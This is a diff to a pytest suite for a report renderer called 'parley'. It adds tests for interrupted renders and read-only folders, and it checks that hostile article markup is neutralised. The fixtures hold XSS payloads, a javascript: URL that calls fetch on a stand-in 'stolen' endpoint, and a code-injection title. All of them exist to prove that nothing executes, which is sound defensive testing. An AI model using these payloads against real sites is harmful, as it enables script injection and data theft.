@@ -2,6 +2,7 @@
 a time, batches, interruptions and hostile input, all through the real command."""
 
 import fcntl
+import os
 import shutil
 import signal
 import subprocess
@@ -10,7 +11,9 @@ import time
 from pathlib import Path
 
 import pytest
-from conftest import SEED, write
+from browser import DevTools
+from conftest import SEED, staging, write
+from pypdf import PdfReader
 
 from parley.config import DATA_FILES
 from parley.params import parse_parameters
@@ -88,16 +91,20 @@ def test_a_second_render_of_the_same_report_is_refused_while_one_runs(rendered: 
 
 
 @pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL])
-def test_an_interrupted_render_leaves_the_last_good_report(rendered: Path, sig: signal.Signals) -> None:
+def test_an_interrupted_render_leaves_the_last_good_report(
+    rendered: Path, sig: signal.Signals, tmp_path: Path
+) -> None:
     before = contents(rendered)
+    temp = {**os.environ, "TMPDIR": str(tmp_path)}  # to see what the kernel leaves there
     process = subprocess.Popen(
         [PARLEY, "render", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered)],
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
         text=True,
+        env=temp,
     )
     deadline = time.monotonic() + 60
-    while not list(rendered.glob(".parley-report-*")) and time.monotonic() < deadline:
+    while not staging(rendered) and time.monotonic() < deadline:
         time.sleep(0.05)  # wait until the render is staging its outputs
     time.sleep(1)
     process.send_signal(sig)
@@ -106,12 +113,59 @@ def test_an_interrupted_render_leaves_the_last_good_report(rendered: Path, sig: 
     assert contents(rendered) == before
     if sig == signal.SIGTERM:
         assert stderr.strip().splitlines()[-1] == "parley: interrupted; the previous report is unchanged"
-        assert not list(rendered.glob(".parley-report-*"))
+        assert not staging(rendered)
     # Whatever a killed render left behind is cleared by the next one, which renders again.
-    again = parley("render", "-q", "-p", "as_of=2026-11-25", "--out", str(rendered))
+    again = subprocess.run(
+        [PARLEY, "render", "-q", "--force", "-p", "as_of=2026-11-25", "--out", str(rendered)],
+        capture_output=True,
+        text=True,
+        env=temp,
+    )
     assert again.returncode == 0, again.stderr
-    assert not list(rendered.glob(".parley-report-*"))
+    assert not staging(rendered)
     assert contents(rendered) == before
+    assert not list(tmp_path.glob("parley-kernel-*"))  # the kernel's sockets and connection file
+
+
+def test_sigterm_stops_a_batch(tmp_path: Path) -> None:
+    files = [write(tmp_path, f"r{i}.yaml", f"as_of: 2026-11-2{i}\n") for i in range(4)]
+    out = tmp_path / "out"
+    process = subprocess.Popen(
+        [PARLEY, "render", "-q", "--batch", *map(str, files), "--to", "html", "--out", str(out)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    deadline = time.monotonic() + 60
+    while not (out.is_dir() and list(out.glob(".parley-*"))) and time.monotonic() < deadline:
+        time.sleep(0.05)  # the first renders are under way
+    process.send_signal(signal.SIGTERM)
+    _, stderr = process.communicate(timeout=120)
+    assert process.returncode == 130
+    assert stderr.strip().splitlines()[-1].endswith("reports rendered; every other report is unchanged")
+    assert len(list(out.glob("*.html"))) < len(files)  # it stopped: not every report was written
+    assert not any(staging(out, f.stem) for f in files)
+
+
+def test_a_skip_needs_no_write_access(rendered: Path, tmp_path: Path) -> None:
+    """A read-only output folder: a render that would only skip says so (as a user other than
+    root: root writes anywhere, so the folder is made read-only by a read-only bind mount)."""
+    view = tmp_path / "view"
+    view.mkdir()
+    mounted = subprocess.run(["mount", "--bind", "-o", "ro", str(rendered), str(view)], capture_output=True)
+    if mounted.returncode != 0:
+        pytest.skip("needs root to bind-mount the reports folder read-only")
+    try:
+        skipped = parley("render", "-p", "as_of=2026-11-25", "--out", str(view))
+        refused = parley("render", "--force", "-p", "as_of=2026-11-25", "--out", str(view))
+    finally:
+        subprocess.run(["umount", str(view)], check=True)
+    assert skipped.returncode == 0 and skipped.stdout.startswith("unchanged:"), skipped.stderr
+    assert refused.returncode == 1
+    assert (
+        refused.stderr.strip()
+        == f"parley: error: {view}: output folder cannot be written (Read-only file system)"
+    )
 
 
 def test_batch_renders_each_params_file_and_reports_failures(tmp_path: Path) -> None:
@@ -148,13 +202,15 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
     write(
         articles,
         "markup.md",
-        "---\ntitle: <script>document.title='pwned'</script>Markup\n---\n"
+        "---\ntitle: <script>document.title='pwned'</script>Markup\n"
+        "url: \"javascript:document.title='pwned';fetch('https://example.net/stolen')\"\n---\n"
         "A soldier was captured <img src=x onerror=\"document.title='pwned'\">.\n\n"
         "<script>document.title = 'pwned';</script> Prisoners were exchanged.",
     )
+    write(articles, "linked.md", "---\ntitle: Linked\nurl: https://example.org/talks\n---\nTalks went on.")
     title = 'Report"""; open(\'' + str(root / "injected") + "', 'w'); x = \"\"\"<i>"
     result = parley(
-        "render", "-q", "--to", "html", "--out", str(root / "out"),
+        "render", "-q", "--out", str(root / "out"),
         "-p", f"articles={articles}", "-p", f"title={title}", "-p", "as_of=2026-11-25",
     )  # fmt: skip
     assert result.returncode == 0, result.stderr
@@ -197,6 +253,49 @@ def test_article_markup_never_runs_in_a_browser(hostile: Path, tmp_path: Path) -
     assert "<script" not in dom and '<img src="x"' not in dom
     assert "&lt;script&gt;document.title = 'pwned';&lt;/script&gt; Prisoners were exchanged." in dom
     assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;Markup" in dom
+
+
+def test_only_http_urls_become_links_in_html_and_pdf(hostile: Path) -> None:
+    html = (hostile / "out" / "report.html").read_text(encoding="utf-8")
+    assert "href='javascript" not in html and 'href="javascript' not in html
+    assert """<td class="url">javascript:document.title='pwned';""" in html
+    assert '<a href="https://example.org/talks">' in html
+    pdf = PdfReader(hostile / "out" / "report.pdf")
+    uris = [
+        str(a.get_object().get("/A", {}).get("/URI")) for page in pdf.pages for a in page.get("/Annots") or []
+    ]
+    assert "https://example.org/talks" in uris and not any("javascript" in u for u in uris)
+
+
+@pytest.mark.skipif(
+    CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps installs it)"
+)
+def test_clicking_a_javascript_url_runs_nothing(hostile: Path, tmp_path: Path) -> None:
+    assert CHROMIUM is not None
+    browser = DevTools(CHROMIUM, tmp_path / "profile")
+    where = (
+        "(text => {{ const td = [...document.querySelectorAll('table.sources td.url')]"
+        ".find(td => td.textContent.startsWith(text)); td.scrollIntoView({{block: 'center'}});"
+        " const r = (td.querySelector('a') || td).getBoundingClientRect();"
+        " return {{x: r.left + Math.min(r.width, 40) / 2, y: r.top + r.height / 2,"
+        " links: td.querySelectorAll('a').length}}; }})({text!r})"
+    )
+    try:
+        session = browser.open(hostile / "out" / "report.html", width=1100, height=900)
+        bad = browser.evaluate(where.format(text="javascript:"), session)
+        browser.click(bad["x"], bad["y"], session)
+        title = browser.evaluate("document.title", session)
+        # The control: the same click on an http link does follow it (and is refused offline).
+        good = browser.evaluate(where.format(text="https://example.org/talks"), session)
+        browser.click(good["x"], good["y"], session)
+        browser.wait_for("Network.loadingFailed")
+    finally:
+        browser.close()
+    assert bad["links"] == 0 and good["links"] == 1
+    assert "pwned" not in title
+    requests = [e["request"]["url"] for e in browser.of("Network.requestWillBeSent")]
+    assert "https://example.org/talks" in requests
+    assert not any("example.net" in url for url in requests)
 
 
 @pytest.fixture
